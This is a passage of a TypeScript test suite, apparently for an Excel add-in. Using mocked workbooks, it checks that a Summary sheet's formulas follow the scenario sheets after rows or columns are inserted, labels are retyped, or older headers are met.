    (globalThis as Record<string, unknown>).Excel = excel;
    expect(await keepSummary(officeHost())).toBe(true);
    expect(Object.keys(written.values).filter((k) => k.startsWith("Growth!"))).toEqual([]);
    expect(written.values["Summary!I4"]).toEqual([[NO_CONVERSIONS_COLUMN]]);
  });

  it("README, the Summary follows the scenario sheets: points a rewritten Summary row at where the sheet's rows are now, after rows inserted above its inputs", async () => {
    const moved = columnsAI(scenarioSheet(growth), 3);
    const { excel, written } = mockExcel(
      {
        Summary: { "A1:A100": columnsAI(summarySheet(SCENARIOS)).map(([a]) => [a]), [SUMMARY_HEADER_ROW]: [SUMMARY_HEADERS], "A4:A203": Array.from({ length: 200 }, () => [null]) },
        Growth: { "A1:A100": moved.map(([a]) => [a]), [SUMMARY_HEADER_ROW]: [Array(SUMMARY_HEADERS.length).fill(null)], ...headerRowAsRead(scenarioSheet(growth), 3) },
      },
      "Growth",
    );
    (globalThis as Record<string, unknown>).Excel = excel;
    expect(await keepSummary(officeHost())).toBe(true);
    expect(written.formulas["Summary!B4"]).toEqual([[`=IF(Growth!$B$6="","",Growth!$B$6)`]]);
    expect(written.formulas["Summary!C4"]).toEqual([[`=Growth!$B$${SCENARIO_LAYOUT.totalRow + 3}`]]);
    expect(String(written.formulas["Summary!G4"]?.[0]?.[0])).toMatch(/^=IF\(Growth!\$B\$10="","Input missing.*",Growth!\$B\$10\)$/);
    expect(written.formulas["Summary!I4"]).toEqual([[`=Growth!$J$${SCENARIO_LAYOUT.totalRow + 3}`]]);
    expect(String(written.formulas["Summary!K4"]?.[0]?.[0])).toContain(`Growth!$H$13:$H$24`);
  });

  describe("README, the Summary follows the scenario sheets: a row or column the planner inserted or a label retyped moves the Summary's formulas, or makes it say what it cannot find — never read a cell that now holds something else", () => {
    /** The Summary's row for Growth, laid out as `edit` leaves the template's rows (cells as text). */
    async function summaryFor(edit: (rows: unknown[][]) => void) {
      const rows = sheetAsRows(scenarioSheet(growth)).map((row) => [...row]);
      edit(rows);
      const header = rows.findIndex((row) => row[0] === "Month 月份");
      const { excel, written } = mockExcel(
        {
          Summary: { "A1:A100": columnsAI(summarySheet(SCENARIOS)).map(([a]) => [a]), [SUMMARY_HEADER_ROW]: [SUMMARY_HEADERS], "A4:A203": Array.from({ length: 200 }, () => [null]) },
          Growth: {
            "A1:A100": Array.from({ length: 100 }, (_, r) => [rows[r]?.[0] ?? null]),
            [SUMMARY_HEADER_ROW]: [Array(SUMMARY_HEADERS.length).fill(null)],
            [`A${header + 1}:AN${header + 1}`]: [Array.from({ length: 40 }, (_, c) => rows[header][c] ?? null)],
          },
        },
        "Growth",
      );
      (globalThis as Record<string, unknown>).Excel = excel;
      expect(await keepSummary(officeHost())).toBe(true);
      const cell = (column: string) => written.formulas[`Summary!${column}4`]?.[0]?.[0] ?? written.values[`Summary!${column}4`]?.[0]?.[0];
      return Object.fromEntries(SUMMARY_HEADERS.map((_, c) => [columnLetter(c), cell(columnLetter(c))]));
    }

    it("a month row inserted: the totals are read on the total row where it is now, the marginal CPAs over every month", async () => {
      const row = await summaryFor((rows) => rows.splice(16, 0, ["Jun bonus", 100_000]));
      expect(row.C).toBe(`=Growth!$B$${SCENARIO_LAYOUT.totalRow + 1}`);
      expect(row.I).toBe(`=Growth!$J$${SCENARIO_LAYOUT.totalRow + 1}`);
      expect(row.K).toContain(`Growth!$H$10:$H$${SCENARIO_LAYOUT.totalRow}`);
    });

    it("a column inserted inside the month table: each figure read from its column by its header", async () => {
      const row = await summaryFor((rows) => rows.forEach((line, r) => r >= SCENARIO_LAYOUT.headerRow - 1 && line.splice(2, 0, r === SCENARIO_LAYOUT.headerRow - 1 ? "Comment" : null)));
      expect([row.C, row.D, row.E, row.F, row.H, row.I]).toEqual(["B", "D", "E", "H", "J", "K"].map((c) => `=Growth!$${c}$${SCENARIO_LAYOUT.totalRow}`));
      expect(row.K).toContain(`Growth!$I$10:$I$21`);
    });

    it("a column inserted before the budget column: the inputs are read where they moved with it", async () => {
      const row = await summaryFor((rows) => rows.forEach((line) => line.splice(1, 0, null)));
      expect(row.B).toBe(`=IF(Growth!$C$3="","",Growth!$C$3)`);
      expect(String(row.G)).toContain(`Growth!$C$7`);
      expect(row.C).toBe(`=Growth!$C$${SCENARIO_LAYOUT.totalRow}`);
    });

    it("a label retyped or deleted: the Summary says which figure it cannot find", async () => {
      const row = await summaryFor((rows) => {
        rows[6][0] = "Monthly cap";
        rows[SCENARIO_LAYOUT.totalRow - 1][0] = "Year";
      });
      expect(row.G).toBe(notFound("Budget cap 预算上限"));
      expect(row.C).toBe(notFound("Total 合计"));
      expect(row.K).toBe(notFound("Total 合计"));
    });
  });

  it("keeps a Summary whose cap column still has its older header, and gives it today's (the cap is a month's, beside a year's budget)", async () => {
    const older = SUMMARY_HEADERS.map((header, c) => SUMMARY_OLDER_HEADERS[c] ?? header);
    expect(older).not.toEqual(SUMMARY_HEADERS);
    const { excel, written } = mockExcel(
      {
        Summary: { "A1:A100": columnsAI(summarySheet(SCENARIOS)).map(([a]) => [a]), [SUMMARY_HEADER_ROW]: [older], "A4:A203": Array.from({ length: 200 }, (_, r) => [r === 0 ? "Growth" : null]) },
        Growth: { "A1:A100": columnsAI(scenarioSheet(growth)).map(([a]) => [a]), [SUMMARY_HEADER_ROW]: [Array(SUMMARY_HEADERS.length).fill(null)], ...headerRowAsRead(scenarioSheet(growth)) },
      },
      "Growth",
    );
    (globalThis as Record<string, unknown>).Excel = excel;
    expect(await keepSummary(officeHost())).toBe(true);
    expect(written.values["Summary!G3"]).toEqual([["Monthly budget cap 月度预算上限"]]);
    expect(written.values["Summary!C3"]).toBeUndefined(); // a header already today's is left alone
  });

  it("README, the Summary follows the scenario sheets: a sheet it listed that lost a scenario's labels keeps its row, saying what is not found, rather than drop out of the year", async () => {
    const relabelled = columnsAI(scenarioSheet(growth)).map(([a]) => [a === "Stage 阶段" ? "Stage" : a]);
    const { excel, written } = mockExcel(
      {
        Summary: { "A1:A100": columnsAI(summarySheet(SCENARIOS)).map(([a]) => [a]), [SUMMARY_HEADER_ROW]: [SUMMARY_HEADERS], "A4:A203": Array.from({ length: 200 }, (_, r) => [["Growth", "Copy"][r] ?? null]) },
        Growth: { "A1:A100": relabelled, [SUMMARY_HEADER_ROW]: [Array(SUMMARY_HEADERS.length).fill(null)] },
        Inserted: { "A1:A100": columnsAI(scenarioSheet(growth)).map(([a]) => [a]), [SUMMARY_HEADER_ROW]: [Array(SUMMARY_HEADERS.length).fill(null)], ...headerRowAsRead(scenarioSheet(growth)) },
      },
      "Growth",
    );
    (globalThis as Record<string, unknown>).Excel = excel;
    expect(await keepSummary(officeHost())).toBe(true);
    expect(written.values["Summary!A4"]).toEqual([["Growth"]]);
    expect(written.values["Summary!C4"]).toEqual([[notFound("Stage 阶段 · Month 月份")]]);
    expect(written.values["Summary!A5"]).toEqual([["Inserted"]]);
    expect(written.formulas["Summary!C5"]).toEqual([[`=Inserted!$B$${SCENARIO_LAYOUT.totalRow}`]]);
  });

  it("does not take a sheet whose header row only starts like the Summary's for it", async () => {
    const broken = [...SUMMARY_HEADERS.slice(0, SUMMARY_FIRST_HEADERS), "Something else", ...Array(SUMMARY_HEADERS.length - SUMMARY_FIRST_HEADERS - 1).fill(null)];
    const { excel, written } = mockExcel({ Summary: { [SUMMARY_HEADER_ROW]: [broken] } }, "Summary");
    (globalThis as Record<string, unknown>).Excel = excel;
    expect(await keepSummary(officeHost())).toBe(false);
    expect(written.values).toEqual({});
  });
});
